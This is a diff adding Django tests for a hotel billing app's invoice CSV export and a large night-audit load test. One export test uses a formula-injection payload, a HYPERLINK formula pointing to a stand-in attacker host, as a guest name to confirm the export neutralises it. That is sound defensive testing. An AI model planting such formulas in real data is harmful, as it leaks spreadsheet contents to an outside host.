@@ -1,3 +1,175 @@
-from django.test import TestCase
+import csv
+import time
+from datetime import date, datetime, timedelta
+from decimal import Decimal
+from io import StringIO
+from unittest import mock
 
-# Create your tests here.
+from asgiref.sync import sync_to_async
+from django.contrib.auth.models import User
+from django.core.management import call_command
+from django.db.backends.postgresql.psycopg_any import DateRange
+from django.db.models import Sum
+from django.test import TestCase, TransactionTestCase, override_settings, tag
+from django.urls import reverse
+from django.utils import timezone
+
+from accounts.models import Hotel
+from bookings.models import Booking
+from bookings.services import create_booking
+from rooms.models import Room, RoomType
+from .models import Folio, FolioLine, Invoice, NightAuditRun
+
+
+class InvoiceExportTests(TestCase):
+    def setUp(self):
+        self.user = User.objects.create_user('owner', 'owner@example.com', 'Str0ng!Pass')
+        self.hotel = Hotel.objects.create(user=self.user, hotel_name='Lakeside Inn', mobile_number='9812345670')
+        room_type = RoomType.objects.create(hotel=self.hotel, name='Deluxe')
+        room = Room.objects.create(hotel=self.hotel, room_type=room_type, number='101')
+        today = timezone.localdate()
+        booking = create_booking(room, today - timedelta(days=2), today, guest_name='Guest')
+        Booking.objects.filter(pk=booking.pk).update(status=Booking.STATUS_CHECKED_OUT)
+        self.folio = Folio.objects.create(hotel=self.hotel, booking=booking)
+        self.client.force_login(self.user)
+
+    def issue(self, number, issued_at=None):
+        invoice = Invoice.objects.create(
+            hotel=self.hotel, folio=self.folio, number=number,
+            total_charges=100, total_payments=100, balance_due=0,
+        )
+        if issued_at is not None:
+            Invoice.objects.filter(pk=invoice.pk).update(issued_at=issued_at)
+        return invoice
+
+    def export(self, **params):
+        response = self.client.get(reverse('invoice_export'), params)
+        return response, b''.join(response.streaming_content).decode() if response.streaming else ''
+
+    def test_default_range_includes_today(self):
+        self.issue('INV-TODAY')
+
+        response, body = self.export()
+
+        self.assertEqual(response.status_code, 200)
+        self.assertIn('INV-TODAY', body)
+
+    def test_default_range_works_on_the_first_of_the_month(self):
+        first = date(2030, 3, 1)
+        self.issue('INV-FIRST', timezone.make_aware(datetime(2030, 3, 1, 9, 30)))
+        self.issue('INV-FEB', timezone.make_aware(datetime(2030, 2, 28, 9, 30)))
+
+        with mock.patch('billing.views.timezone.localdate', return_value=first):
+            response, body = self.export()
+
+        self.assertEqual(response.status_code, 200)
+        self.assertIn('INV-FIRST', body)
+        self.assertNotIn('INV-FEB', body)
+
+    def test_end_is_exclusive(self):
+        self.issue('INV-MAR', timezone.make_aware(datetime(2030, 3, 1, 9, 30)))
+
+        response, body = self.export(start='2030-02-01', end='2030-03-01')
+
+        self.assertEqual(response.status_code, 200)
+        self.assertNotIn('INV-MAR', body)
+
+    async def test_asgi_export_streams_asynchronously(self):
+        await sync_to_async(self.issue)('INV-ASGI')
+        await self.async_client.aforce_login(self.user)
+
+        response = await self.async_client.get(reverse('invoice_export'))
+
+        self.assertTrue(response.is_async)
+        body = b''.join([chunk async for chunk in response.streaming_content]).decode()
+        self.assertTrue(body.startswith('Invoice,Issued At'))
+        self.assertIn('INV-ASGI', body)
+
+    def test_formulas_in_text_columns_are_neutralised(self):
+        Booking.objects.filter(pk=self.folio.booking_id).update(
+            guest_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+        )
+        self.issue('INV-CSV')
+
+        response, body = self.export()
+
+        row = next(csv.reader(body.splitlines()[1:]))
+        self.assertEqual(row[2], '\'=HYPERLINK("http://evil.example/?"&A1,"Click")')
+        self.assertEqual(row[0], 'INV-CSV')
+
+    def test_rejects_empty_range(self):
+        response, _ = self.export(start='2030-03-01', end='2030-03-01')
+        self.assertEqual(response.status_code, 400)
+
+
+@tag('load')
+@override_settings(ROOM_TAX_RATE='0.13')
+class NightAuditLoadTests(TransactionTestCase):
+    """1,000 hotels with 200 occupied rooms each, audited across a process pool"""
+
+    HOTELS = 1000
+    ROOMS_PER_HOTEL = 200
+    WORKERS = 4
+    BUSINESS_DATE = date(2030, 5, 1)
+    MAX_SECONDS = 300
+
+    def setUp(self):
+        users = User.objects.bulk_create(
+            User(username=f'owner{i}', email=f'owner{i}@example.com') for i in range(self.HOTELS)
+        )
+        hotels = Hotel.objects.bulk_create(
+            Hotel(user=user, hotel_name=f'Hotel {i}', mobile_number='9812345670') for i, user in enumerate(users)
+        )
+        room_types = RoomType.objects.bulk_create(
+            RoomType(hotel=hotel, name='Standard', base_rate=Decimal('100.00')) for hotel in hotels
+        )
+        rooms = Room.objects.bulk_create(
+            (
+                Room(hotel_id=room_type.hotel_id, room_type=room_type, number=str(101 + i))
+                for room_type in room_types
+                for i in range(self.ROOMS_PER_HOTEL)
+            ),
+            batch_size=5000,
+        )
+        stay = DateRange(self.BUSINESS_DATE - timedelta(days=1), self.BUSINESS_DATE + timedelta(days=2))
+        Booking.objects.bulk_create(
+            (
+                Booking(
+                    hotel_id=room.hotel_id, room=room, guest_name=f'Guest {room.pk}', stay=stay,
+                    status=Booking.STATUS_CHECKED_IN,
+                )
+                for room in rooms
+            ),
+            batch_size=5000,
+        )
+
+    def audit(self):
+        out = StringIO()
+        began = time.perf_counter()
+        call_command(
+            'run_night_audit', date=self.BUSINESS_DATE.isoformat(), workers=self.WORKERS, stdout=out, stderr=out,
+        )
+        return time.perf_counter() - began, out.getvalue()
+
+    def test_thousand_hotels(self):
+        bookings = self.HOTELS * self.ROOMS_PER_HOTEL
+
+        elapsed, _ = self.audit()
+
+        self.assertLess(elapsed, self.MAX_SECONDS)
+        runs = NightAuditRun.objects.filter(business_date=self.BUSINESS_DATE)
+        self.assertEqual(runs.filter(status=NightAuditRun.STATUS_COMPLETED).count(), self.HOTELS)
+        lines = FolioLine.objects.filter(business_date=self.BUSINESS_DATE)
+        self.assertEqual(lines.filter(category='room').count(), bookings)
+        self.assertEqual(lines.filter(category='tax').count(), bookings)
+        self.assertEqual(
+            Folio.objects.aggregate(total=Sum('total_charges'))['total'], Decimal('113.00') * bookings,
+        )
+
+        # A crashed hotel is resumed, the rest are skipped, and nothing is posted twice
+        NightAuditRun.objects.filter(hotel=Hotel.objects.order_by('id').first()).update(
+            status=NightAuditRun.STATUS_FAILED,
+        )
+        _, output = self.audit()
+        self.assertIn(f'Night audit for {self.BUSINESS_DATE}: 1 hotel(s)', output)
+        self.assertEqual(lines.count(), 2 * bookings)